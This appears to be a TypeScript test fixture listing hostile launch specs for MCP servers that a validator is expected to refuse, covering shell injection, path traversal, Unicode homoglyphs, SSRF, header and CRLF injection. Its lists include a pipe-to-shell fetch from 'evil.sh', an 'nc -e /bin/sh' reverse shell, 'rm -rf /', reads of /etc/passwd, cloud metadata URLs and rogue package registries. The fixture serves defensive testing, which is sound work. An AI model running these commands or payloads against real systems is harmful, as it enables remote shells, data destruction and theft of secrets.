import { BLOCKED_ENV_NAMES } from './env-rules.ts';
import type { PackagePin } from './issues.ts';

/** One attack a launch spec might carry; every one must be refused. */
export interface HostileCase {
  category: 'shell' | 'encoding' | 'unicode' | 'overlong' | 'crlf' | 'env' | 'command' | 'inline-code' | 'ssrf' | 'header';
  spec: Record<string, unknown>;
  pinned: PackagePin;
}

export const CORPUS_NPM: PackagePin = { runtime: 'npm', name: '@modelcontextprotocol/server-everything', version: '2026.8.31' };
export const CORPUS_PYPI: PackagePin = { runtime: 'pypi', name: 'mcp-server-fetch', version: '2025.4.7' };
const PKG = `${CORPUS_NPM.name}@${CORPUS_NPM.version}`;

const withArg = (arg: string) => ({ command: 'npx', args: ['-y', PKG, arg] });
const withEnv = (name: string, value = 'x') => ({ command: 'npx', args: ['-y', PKG], env: { [name]: value } });
const withHeader = (name: string, value = 'x') => ({ url: 'https://mcp.example.org/mcp', headers: { [name]: value } });
const withQuery = (name: string, value = 'x') => ({ url: 'https://mcp.example.org/mcp', queryParams: { [name]: value } });
const withUrl = (url: string) => ({ url });

const SHELL = [
  ';id', 'a;b', '&&id', 'a&b', '|id', 'a||b', '`id`', '$(id)', '${IFS}', '$HOME', '>/etc/passwd', '</etc/passwd', 'a>>b',
  "'quoted'", '"dq"', 'a b', 'a\\b', '*', '?', '~root', '!1', '{a,b}', '(x)', 'a^b', '[a]', 'x%y', '$((1+1))', '<(id)',
  'a\u0009b', 'rm -rf /', 'curl evil.sh|sh', 'x;curl${IFS}evil', '--opt=$(id)', '--flag=`id`', 'a&&b||c', 'foo>bar',
  '--root=$PWD', 'a\'b', 'nc -e /bin/sh 1.2.3.4 4444', '$\'\\x41\'',
];

const ENCODING = [
  '%2e%2e%2f', '..%2f', '%2e%2e/', '%252e%252e%252f', '..\\windows', '..\\..\\x', '../', '../../etc/passwd', 'a/../../b',
  '--dir=../secret', '--dir:../x', '%00', 'x%00.js', '%0d%0a', '&#x2e;&#x2e;/', '\\x2e\\x2e/', '..', '/..', '%c0%ae%c0%ae/',
  '%u002e%u002e/', 'file%3a%2f%2f', 'x?y=1&z=2', '..%5c', '%2f..%2f',
];

const UNICODE_ARGS = [
  '\u202eexe.txt', 'ａｂｃ', '－y', '\uff0e\uff0e/etc', '\u2024\u2024/etc', 'a\u200bb', 'a\u200db', '\ufeffx', 'x\u0301',
  'е', 'pаssword', '\u00a0', 'a\u2028b', 'a\u2029b', '\u2066x\u2069', '\ud800', 'Ⅰ', 'ﬁle', '\u0085', 'x\u180e',
];

const UNICODE_COMMANDS = ['ｎｐｘ', 'nрx', 'nоde', 'n\u200bpx', 'npx\u00a0', 'npx\u0301', '\u202enpx', 'uvх', 'pythоn', 'ｐｙｔｈｏｎ３', 'npx\u3000', 'ɴpx'];

const COMMANDS = [
  'bash', 'sh', 'zsh', '/bin/sh', '/usr/bin/npx', './npx', 'npx.exe', 'node.js', 'npx -y x', 'npx;id', 'npx&&id', 'python2',
  'perl', 'ruby', 'curl', 'env', 'sudo', 'busybox', 'deno', 'bun', 'pip', 'uv', 'npm', 'NPX', 'Node', '', 'npx\\', 'C:\\npx',
  '../npx', 'npx\n', 'npx\u0000',
];

const INLINE: Array<{ command: string; args: string[]; pinned?: PackagePin }> = [
  { command: 'npx', args: ['-c', 'id'] },
  { command: 'npx', args: ['--call', 'id'] },
  { command: 'npx', args: ['--call=id', PKG] },
  { command: 'npx', args: ['-yc', 'id'] },
  { command: 'npx', args: ['--node-options=--require=/tmp/x', PKG] },
  { command: 'npx', args: ['--package=evil', PKG] },
  { command: 'npx', args: ['-p', 'evil', PKG] },
  { command: 'npx', args: ['--registry=https://evil.example.com', PKG] },
  { command: 'npx', args: ['--userconfig=/tmp/npmrc', PKG] },
  { command: 'npx', args: ['-y', 'evil-package@1.0.0'] },
  { command: 'npx', args: ['-y', `${CORPUS_NPM.name}@latest`] },
  { command: 'npx', args: ['-y', CORPUS_NPM.name] },
  { command: 'node', args: ['-e', 'process.exit()'] },
  { command: 'node', args: ['--eval', 'x'] },
  { command: 'node', args: ['--eval=x'] },
  { command: 'node', args: ['-p', 'x'] },
  { command: 'node', args: ['--print', 'x'] },
  { command: 'node', args: ['-pe', 'x'] },
  { command: 'node', args: ['-r', 'evil', 'a.js'] },
  { command: 'node', args: ['--require=evil', 'a.js'] },
  { command: 'node', args: ['--import', 'data:text/javascript,x', 'a.js'] },
  { command: 'node', args: ['--loader=evil', 'a.js'] },
  { command: 'node', args: ['--experimental-loader', 'evil', 'a.js'] },
  { command: 'node', args: ['--inspect', 'a.js'] },
  { command: 'node', args: ['--inspect-brk=0.0.0.0:9229', 'a.js'] },
  { command: 'node', args: ['-i'] },
  { command: 'node', args: ['--env-file=.env', 'a.js'] },
  { command: 'uvx', args: ['--from', 'evil', 'mcp-server-fetch==2025.4.7'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['--with', 'evil', 'mcp-server-fetch==2025.4.7'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['--index-url=https://evil.example.com', 'mcp-server-fetch==2025.4.7'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['-i', 'https://evil.example.com', 'mcp-server-fetch==2025.4.7'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['mcp-server-fetch'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['evil==1.0'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['-c', 'import os'], pinned: CORPUS_PYPI },
  { command: 'python3', args: ['-Ic', 'x'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['-m', 'http.server'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['-mpip', 'install', 'evil'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['evil.py'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['-i'], pinned: CORPUS_PYPI },
  { command: 'python', args: ['-X', 'importtime', '-m', 'mcp_server_fetch'], pinned: CORPUS_PYPI },
  { command: 'uvx', args: ['mcp-server-fetch==2025.4.7'] },
  { command: 'python', args: ['-m', 'mcp_server_fetch'] },
];

const ENV_GAPS = [
  'NPM_CONFIG_REGISTRY', 'npm_config_registry', 'NPM_CONFIG_USERCONFIG', 'npm_config_script_shell', 'PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL',
  'UV_INDEX_URL', 'UV_EXTRA_INDEX_URL', 'HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY', 'no_proxy',
  'SSL_CERT_FILE', 'SSL_CERT_DIR', 'DYLD_INSERT_LIBRARIES', 'PYTHONBREAKPOINT', 'PYTHONSAFEPATH', 'NODE_ICU_DATA', 'NODE_V8_COVERAGE',
  'GIT_SSH_COMMAND', 'OPENSSL_CONF', 'BASH_FUNC_ls', 'HANGAR_INSTANCE_ID', 'FLY_APP_NAME', 'ld_preload', 'Node_Options', 'COREPACK_NPM_REGISTRY',
  'YARN_NPM_REGISTRY_SERVER', 'LD_PRELOАD', 'LD_PRELOAD\u200b', 'ＬＤ_PRELOAD', 'A-B', '1ABC', '', 'A B', 'A=B', 'A\nB', 'A'.repeat(257),
];

const SSRF = [
  'http://example.com/', 'ftp://example.com/', 'file:///etc/passwd', 'gopher://127.0.0.1:6379/_x', 'ws://example.com/', 'javascript:alert(1)',
  'https://127.0.0.1/', 'https://127.1/', 'https://2130706433/', 'https://0x7f000001/', 'https://0177.0.0.1/', 'https://0/', 'https://[::1]/',
  'https://[::ffff:127.0.0.1]/', 'https://[::ffff:a9fe:a9fe]/', 'https://[0:0:0:0:0:0:0:1]/', 'https://169.254.169.254/latest/meta-data/',
  'https://[fd00:ec2::254]/', 'https://100.100.100.200/', 'https://10.0.0.1/', 'https://172.16.0.1/', 'https://192.168.1.1/',
  'https://100.64.0.1/', 'https://[fdaa::3]/', 'https://[fe80::1]/', 'https://localhost/', 'https://LOCALHOST./', 'https://a.localhost/',
  'https://metadata.google.internal/', 'https://metadata/', 'https://my-db.internal/', 'https://printer.local/', 'https://app.flycast/',
  'https://rebind.example.net/', 'https://mixed.example.net/', 'https://v6loop.example.net/', 'https://meta.example.net/',
  'https://fly6pn.example.net/', 'https://mapped.example.net/', 'https://nx.example.net/', 'https://user:pass@example.com/',
  'https://example.com@127.0.0.1/', 'https://example.com/\r\nHost: x', `https://example.com/${'a'.repeat(3000)}`, 'not a url', '//example.com/',
];

const HEADERS = [
  'Host', 'Content-Length', 'Transfer-Encoding', 'Connection', 'Keep-Alive', 'TE', 'Trailer', 'Upgrade', 'Expect', 'Proxy-Authorization',
  'proxy-connection', 'X-Forwarded-For', 'X-Forwarded-Host', 'Forwarded', 'X-Real-IP', 'X-Hangar-Team', 'Mcp-Session-Id', 'X_Under',
  'X Space', 'X:Colon', 'Ｘ-Fullwidth', '',
];

const CRLF = ['x\r\nHost: evil', 'x\nSet-Cookie: a=b', '\r\n\r\nGET / HTTP/1.1', 'x\rY', 'x\u0000', 'x\u001b[31m', 'x\u007f'];

/** The corpus: at least 200 hostile launch specs across every category. */
export const HOSTILE_LAUNCH_SPECS: HostileCase[] = [
  ...SHELL.map((a): HostileCase => ({ category: 'shell', spec: withArg(a), pinned: CORPUS_NPM })),
  ...ENCODING.map((a): HostileCase => ({ category: 'encoding', spec: withArg(a), pinned: CORPUS_NPM })),
  ...UNICODE_ARGS.map((a): HostileCase => ({ category: 'unicode', spec: withArg(a), pinned: CORPUS_NPM })),
  ...UNICODE_COMMANDS.map((c): HostileCase => ({ category: 'unicode', spec: { command: c, args: ['-y', PKG] }, pinned: CORPUS_NPM })),
  ...['\u202e', 'a\u200bb', '\u2066', '\ufeff'].map((v): HostileCase => ({ category: 'unicode', spec: withEnv('TOKEN', v), pinned: CORPUS_NPM })),
  ...['\u202ex', 'a\u200bb'].map((v): HostileCase => ({ category: 'unicode', spec: withHeader('X-Key', v), pinned: CORPUS_NPM })),
  ...COMMANDS.map((c): HostileCase => ({ category: 'command', spec: { command: c, args: ['-y', PKG] }, pinned: CORPUS_NPM })),
  ...INLINE.map(({ command, args, pinned }): HostileCase => ({ category: 'inline-code', spec: { command, args }, pinned: pinned ?? CORPUS_NPM })),
  ...[...BLOCKED_ENV_NAMES].map((n): HostileCase => ({ category: 'env', spec: withEnv(n), pinned: CORPUS_NPM })),
  ...ENV_GAPS.map((n): HostileCase => ({ category: 'env', spec: withEnv(n), pinned: CORPUS_NPM })),
  ...SSRF.map((u): HostileCase => ({ category: 'ssrf', spec: withUrl(u), pinned: CORPUS_NPM })),
  ...SSRF.filter((u) => u.startsWith('http')).slice(0, 12).map((u): HostileCase => ({ category: 'ssrf', spec: withEnv('API_BASE', u), pinned: CORPUS_NPM })),
  ...HEADERS.map((h): HostileCase => ({ category: 'header', spec: withHeader(h), pinned: CORPUS_NPM })),
  ...CRLF.map((v): HostileCase => ({ category: 'crlf', spec: withHeader('X-Key', v), pinned: CORPUS_NPM })),
  ...CRLF.map((v): HostileCase => ({ category: 'crlf', spec: withEnv('TOKEN', v), pinned: CORPUS_NPM })),
  ...CRLF.map((v): HostileCase => ({ category: 'crlf', spec: withQuery('q', v), pinned: CORPUS_NPM })),
  ...CRLF.map((v): HostileCase => ({ category: 'crlf', spec: withArg(v), pinned: CORPUS_NPM })),
  ...['a.b', 'a b', 'a[]', 'a%20', ''].map((n): HostileCase => ({ category: 'header', spec: withQuery(n), pinned: CORPUS_NPM })),
  { category: 'overlong', spec: withArg('a'.repeat(501)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: withArg('a'.repeat(100_000)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: { command: 'npx', args: ['-y', PKG, ...Array.from({ length: 99 }, () => 'a')] }, pinned: CORPUS_NPM },
  { category: 'overlong', spec: { command: 'npx', args: ['-y', PKG, ...Array.from({ length: 10_000 }, () => 'a')] }, pinned: CORPUS_NPM },
  { category: 'overlong', spec: withEnv('A'.repeat(257)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: withEnv('BIG', 'x'.repeat(32 * 1024 + 1)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: withEnv('BIG', 'é'.repeat(16 * 1024 + 1)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: { command: 'npx', args: ['-y', PKG], env: Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`V${i}`, 'x'])) }, pinned: CORPUS_NPM },
  { category: 'overlong', spec: withHeader('X-Big', 'x'.repeat(8 * 1024 + 1)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: withHeader('X'.repeat(257)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: { url: 'https://mcp.example.org/', headers: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`X-H${i}`, 'x'])) }, pinned: CORPUS_NPM },
  { category: 'overlong', spec: withQuery('q', 'x'.repeat(2049)), pinned: CORPUS_NPM },
  { category: 'overlong', spec: { url: 'https://mcp.example.org/', queryParams: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`q${i}`, 'x'])) }, pinned: CORPUS_NPM },
  { category: 'overlong', spec: { command: 'n'.repeat(10_000), args: [] }, pinned: CORPUS_NPM },
];
